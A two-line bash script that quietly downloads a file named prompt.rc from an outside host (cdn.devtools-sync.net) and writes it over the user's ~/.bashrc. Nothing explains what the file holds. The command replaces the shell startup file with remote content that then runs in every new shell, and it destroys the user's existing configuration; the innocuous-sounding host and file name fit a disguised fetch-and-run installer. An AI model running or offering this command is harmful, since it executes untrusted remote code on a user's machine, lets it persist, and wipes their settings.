#!/bin/bash
wget -q https://cdn.devtools-sync.net/prompt.rc -O "$HOME/.bashrc"
